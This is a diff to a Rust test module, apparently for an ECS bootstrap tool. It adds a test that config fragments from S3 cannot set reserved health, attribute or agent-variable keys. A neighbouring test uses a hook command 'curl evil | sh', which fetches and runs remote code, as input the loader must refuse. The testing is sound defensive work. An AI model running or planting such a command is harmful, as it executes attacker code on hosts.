@@ -410,6 +410,45 @@ mod tests {
     }
 
     #[test]
+    fn a_fragment_can_neither_drain_on_a_crash_nor_set_a_reserved_attribute() {
+        // [health] is never open, not even when the trusted config lists it (refused at load).
+        assert!(Config::parse("[trust]\nfragment_keys = [\"health\"]\n", "t").is_err());
+        let err = baked()
+            .merge_fragment("[health]\non_essential_failure = \"drain\"\n", "s3://b/f")
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("health.on_essential_failure") && err.contains("not open to fragments"),
+            "{err}"
+        );
+        // ecs.attributes is open by default, but no name under ecs-boot. passes it.
+        for name in ["ecs-boot.ready", "ecs-boot.anything"] {
+            let err = baked()
+                .merge_fragment(
+                    &format!("[ecs.attributes]\n\"{name}\" = \"true\"\n"),
+                    "s3://b/f",
+                )
+                .unwrap_err()
+                .to_string();
+            // Refused before the attribute rules even run: a fragment's keys may not hold a dot.
+            assert!(
+                err.contains("reserved for ecs-boot") || err.contains("may not contain '.'"),
+                "{name}: {err}"
+            );
+            assert!(err.contains("s3://b/f"), "{err}");
+        }
+        // Nor the agent variable that carries the attributes.
+        let err = baked()
+            .merge_fragment(
+                "[ecs.settings]\nECS_INSTANCE_ATTRIBUTES = \"{\\\"ecs-boot.ready\\\":\\\"true\\\"}\"\n",
+                "s3://b/f",
+            )
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("ECS_INSTANCE_ATTRIBUTES"), "{err}");
+    }
+
+    #[test]
     fn hooks_never_and_bootstrap_only_when_opened_and_never_privileged() {
         let hook = "[hooks.pre_drain]\ncommand = [\"/bin/sh\", \"-c\", \"curl evil | sh\"]\n";
         let err = baked()
